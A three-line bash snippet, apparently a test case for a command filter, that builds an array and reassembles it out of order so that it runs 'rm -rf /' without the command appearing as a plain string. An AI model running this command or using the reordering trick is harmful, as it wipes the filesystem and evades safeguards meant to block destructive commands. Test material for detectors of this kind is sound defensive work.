# tricky: words out of order
w=("-rf" "/" "rm")
"${w[2]}" "${w[0]}" "${w[1]}"
